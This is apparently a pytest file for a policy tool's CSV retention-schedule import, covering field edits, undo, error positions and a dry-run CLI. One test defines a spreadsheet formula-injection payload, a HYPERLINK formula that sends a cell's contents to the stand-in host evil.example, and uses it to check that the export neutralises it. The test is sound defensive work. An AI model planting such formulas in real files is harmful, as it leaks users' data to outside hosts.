"""Retention schedule import: an exported schedule edited in the text and imported back (plan,
one undo step, CLI)."""

from __future__ import annotations

from pathlib import Path

import pytest

from app.cli import main
from app.domain.canonical import digest
from app.domain.document import PolicyDocument
from app.domain.edits import SetField
from app.importers.retention_schedule import plan_retention_import
from app.storage.errors import PolicyFileError
from app.storage.loader import load_file
from app.storage.spreadsheet import RETENTION_COLUMNS as COLUMNS
from tests.exporters.test_retention_csv import POLICY, policy, rows, schedule_text


def write(tmp_path: Path, text: str, name: str = "schedule.csv") -> Path:
    path = tmp_path / name
    path.write_bytes(("\ufeff" + text).encode("utf-8"))
    return path


def test_edit_duration_and_citation_changes_exactly_those_fields_in_one_undo_step(
        tmp_path: Path) -> None:
    text = schedule_text()
    edited = text.replace(",P2Y,", ",P3Y,").replace("GDPR Art. 7(3)", "GDPR Art. 7(3) and 17(1)(b)")
    plan = plan_retention_import(policy(), write(tmp_path, edited))
    assert [(c.rule_id, c.field) for c in plan.changes] == [
        ("keep_email", "duration"), ("keep_email", "citation")]
    assert plan.preview_lines()[0] == "keep_email: duration P2Y → P3Y"
    assert all(isinstance(e, SetField) for e in plan.edits())
    document = PolicyDocument(policy())
    before = document.policy.model_dump()
    change = document.apply(plan.batch())
    after = document.policy.model_dump()
    assert str(after["retention"][0]["duration"]) == "P3Y"
    assert after["retention"][0]["citation"] == "GDPR Art. 7(3) and 17(1)(b)"
    before["retention"][0]["duration"], before["retention"][0]["citation"] = (
        after["retention"][0]["duration"], "GDPR Art. 7(3) and 17(1)(b)")
    assert after == before  # nothing else changed
    change.undo.apply(document.policy)
    assert document.policy.model_dump() == policy().model_dump()


def test_unchanged_schedule_plans_nothing_and_notes_no_digest_mismatch(tmp_path: Path) -> None:
    plan = plan_retention_import(policy(), write(tmp_path, schedule_text()))
    assert plan.changes == [] and plan.unknown == [] and plan.missing == []
    assert plan.notes == []


def test_formula_citation_is_neutralised_on_export_and_restored_exactly(tmp_path: Path) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    p = policy()
    p.retention[0].citation = hostile
    p.retention[1].citation = "'quoted already"
    p.retention[1].description = "-1 day\t+tab"
    table = rows(schedule_text(p))
    assert table[1][COLUMNS.index("Citation")] == "'" + hostile
    assert table[2][COLUMNS.index("Citation")] == "''quoted already"
    assert table[2][COLUMNS.index("Description")] == "'-1 day\t+tab"
    for row in table:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
    plan = plan_retention_import(p, write(tmp_path, schedule_text(p)))
    assert plan.changes == []  # restored exactly: nothing differs
    # Changing it through the file gives the exact value, quote removed once.
    cell = '"' + "'" + hostile.replace('"', '""') + '"'  # as a spreadsheet quotes it
    edited = schedule_text(policy()).replace("GDPR Art. 7(3)", cell)
    plan = plan_retention_import(policy(), write(tmp_path, edited))
    assert [(c.field, c.new) for c in plan.changes] == [("citation", hostile)]


def test_bad_rows_report_file_row_and_column_and_apply_nothing(tmp_path: Path) -> None:
    text = schedule_text().replace(",P3Y,", ",P3X,").replace(",consent_withdrawal,", ",never,")
    path = write(tmp_path, text)
    with pytest.raises(PolicyFileError) as caught:
        plan_retention_import(policy(), path)
    lines = caught.value.lines()
    duration_col = COLUMNS.index("Duration (ISO 8601)") + 1
    trigger_col = COLUMNS.index("Trigger") + 1
    assert lines[0].startswith(f"{path}:2:{trigger_col}: error: column 'Trigger'")
    assert lines[1].startswith(f"{path}:3:{duration_col}: error: column 'Duration (ISO 8601)'")
    assert "P3X" in lines[1]


def test_short_row_bad_legal_hold_and_missing_header(tmp_path: Path) -> None:
    table = rows(schedule_text())
    short = "\r\n".join([",".join(table[0]), "keep_email,,contact.email"]) + "\r\n"
    with pytest.raises(PolicyFileError, match=r":2:4: error: the row has 3 cells"):
        plan_retention_import(policy(), write(tmp_path, short))
    hold = schedule_text().replace(",yes,", ",perhaps,")
    hold_col = COLUMNS.index("Legal hold") + 1
    with pytest.raises(PolicyFileError, match=rf":3:{hold_col}: error: .*'perhaps' is not yes"):
        plan_retention_import(policy(), write(tmp_path, hold))
    with pytest.raises(PolicyFileError, match=r":1:\d+: error: the header has no 'Rule id'"):
        plan_retention_import(policy(), write(tmp_path, "Id,Duration (ISO 8601)\r\nx,P1Y\r\n"))


def test_hash_digest_first_line_unknown_ids_and_missing_rules(tmp_path: Path) -> None:
    table = rows(schedule_text())
    lines = [f"# retention schedule; digest: {digest(policy())}",
             "Rule id,Duration (ISO 8601),Legal hold",
             "keep_email,P2Y,no",
             "ghost_rule,P1Y,no"]
    plan = plan_retention_import(policy(), write(tmp_path, "\r\n".join(lines) + "\r\n"))
    assert table and plan.changes == []
    assert plan.unknown == [(4, "ghost_rule")] and plan.missing == ["keep_contact"]
    assert plan.notes == []  # the digest in the '#' line matches
    assert "? row 4: unknown rule id 'ghost_rule' (not in the policy; ignored)" in \
        plan.preview_lines()
    bad = [*lines[:2], "keep_email,P2Y,maybe"]
    with pytest.raises(PolicyFileError, match=r":3:3: error:"):
        plan_retention_import(policy(), write(tmp_path, "\r\n".join(bad) + "\r\n"))


def test_other_policy_version_is_noted(tmp_path: Path) -> None:
    other = policy()
    other.retention[0].citation = "changed since"
    plan = plan_retention_import(other, write(tmp_path, schedule_text()))
    assert any("another version of the policy" in note for note in plan.notes)
    assert [c.field for c in plan.changes] == ["citation"]


def test_cli_dry_run_changes_nothing_and_real_run_keeps_comments(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    policy_file = tmp_path / "keep.policy.yaml"
    policy_file.write_text(POLICY)
    edited = schedule_text().replace(",P2Y,", ",P3Y,")
    schedule = write(tmp_path, edited)
    assert main(["retention-import", str(policy_file), "--csv", str(schedule),
                 "--dry-run"]) == 0
    output = capsys.readouterr().out
    assert "keep_email: duration P2Y → P3Y" in output and "dry run" in output
    assert policy_file.read_text() == POLICY
    assert main(["retention-import", str(policy_file), "--csv", str(schedule)]) == 0
    text = policy_file.read_text()
    assert "duration: P3Y" in text and "# the mailing list" in text
    assert text.startswith("# Retention test policy")
    assert text.replace("P3Y", "P2Y", 1) == POLICY
    assert str(load_file(policy_file).policy.retention[0].duration) == "P3Y"


def test_cli_bad_schedule_exits_2_with_position(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    policy_file = tmp_path / "keep.policy.yaml"
    policy_file.write_text(POLICY)
    schedule = write(tmp_path, schedule_text().replace(",P2Y,", ",two years,"))
    assert main(["retention-import", str(policy_file), "--csv", str(schedule)]) == 2
    assert f"{schedule}:2:7: error:" in capsys.readouterr().err
    assert policy_file.read_text() == POLICY
